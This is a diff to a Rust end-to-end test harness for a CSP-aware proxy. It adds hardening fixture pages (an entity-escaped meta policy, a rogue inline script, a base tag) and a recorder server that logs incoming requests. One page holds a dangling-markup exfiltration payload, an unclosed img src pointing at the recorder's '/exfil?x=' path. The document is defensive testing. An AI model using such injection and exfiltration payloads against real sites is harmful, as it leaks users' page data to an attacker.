@@ -44,11 +44,72 @@ fn gzip(data: &[u8]) -> Vec<u8> {
     e.finish().unwrap()
 }
 
+/// A `<meta>` CSP written with character references, as templating engines escape `'`: the
+/// app's script by its hash, no inline style, no `<base>`.
+fn entity_meta_policy() -> String {
+    let hash = app_script_hash().replace('\'', "");
+    format!(
+        "script-src &#39;self&#39; &#x27;{hash}&#x27;; style-src &apos;none&apos;; base-uri &#39;none&#39;"
+    )
+}
+
+/// The hardening pages (the paths e2e.mjs asks for): the policy above with an inline style,
+/// a `<base>` and an inline script the policy refuses; a page ending inside an open attribute
+/// that points at `recorder`; a page whose title says "intercomSettings".
+fn hardening_page(path: &str, recorder: SocketAddr) -> Option<String> {
+    Some(match path {
+        "/hardening/entity-meta" => format!(
+            "<!DOCTYPE html><html><head><meta charset=\"utf-8\">\
+<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">\
+<base href=\"http://{recorder}/based/\"><style>h1{{color:rgb(255, 0, 0)}}</style>\
+<title>entity meta</title><script>{APP_SCRIPT}</script><script>window.rogue=true;</script></head>\
+<body><h1>entity meta</h1><a id=\"relative\" href=\"next\">next</a></body></html>",
+            entity_meta_policy()
+        ),
+        "/hardening/open-attribute" => format!(
+            "<!DOCTYPE html><title>open attribute</title><p>hello<img src='http://{recorder}/exfil?x="
+        ),
+        "/hardening/title-marker" => format!(
+            "<!DOCTYPE html><html><head><title>intercomSettings: how to boot</title>\
+<script>{APP_SCRIPT}</script></head><body><h1>docs</h1></body></html>"
+        ),
+        _ => return None,
+    })
+}
+
+/// Records the path and query of every request it gets; `/log` answers them as JSON.
+async fn recorder() -> Upstream {
+    let seen = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
+    upstream(move |req| {
+        let seen = seen.clone();
+        async move {
+            let uri = req.uri().to_string();
+            if req.uri().path() == "/log" {
+                let log = serde_json::to_string(&*seen.lock().unwrap()).unwrap();
+                let mut r = Response::new(full(log));
+                let h = r.headers_mut();
+                h.insert("content-type", "application/json".parse().unwrap());
+                h.insert("access-control-allow-origin", "*".parse().unwrap());
+                return r;
+            }
+            seen.lock().unwrap().push(uri);
+            Response::new(full(""))
+        }
+    })
+    .await
+}
+
 /// Pages under a strict CSP (nonce with 'strict-dynamic', or hashes; as header or meta), a
-/// gzip page, an HTML logout page and an SPA whose logout is a fetch.
-async fn csp_app() -> Upstream {
-    upstream(|req| async move {
+/// gzip page, an HTML logout page, an SPA whose logout is a fetch, and the hardening pages.
+async fn csp_app(recorder: SocketAddr) -> Upstream {
+    upstream(move |req| async move {
         let path = req.uri().path().to_string();
+        if let Some(page) = hardening_page(&path, recorder) {
+            let mut r = Response::new(full(page));
+            r.headers_mut()
+                .insert("content-type", "text/html; charset=utf-8".parse().unwrap());
+            return r;
+        }
         let hash = app_script_hash();
         let nonce_policy = "script-src 'nonce-r4nd0m' 'strict-dynamic'; object-src 'none'; base-uri 'self'";
         let hash_policy = format!("default-src 'self'; script-src 'self' {hash}");
@@ -152,7 +213,8 @@ async fn chromium_end_to_end() {
     let _demo_task = tokio::spawn(demo_server.serve(std::future::pending()));
 
     // 2. CSP, gzip and logout pages, with a short token_ttl for the refresh scenario.
-    let csp = csp_app().await;
+    let recorder = recorder().await;
+    let csp = csp_app(recorder.addr).await;
     let csp_config = config_text(
         &format!("http://{}", csp.addr),
         "",
@@ -193,7 +255,9 @@ async fn chromium_end_to_end() {
         "messengerSecret": MESSENGER_SECRET,
         "demo": format!("http://{demo_addr}"),
         "csp": csp_proxy.url(""),
+        "cspUpstream": format!("http://{}", csp.addr),
         "cspSession": csp_session,
+        "recorder": format!("http://{}", recorder.addr),
         "express": express_url,
         "screenshots": screenshots,
     });
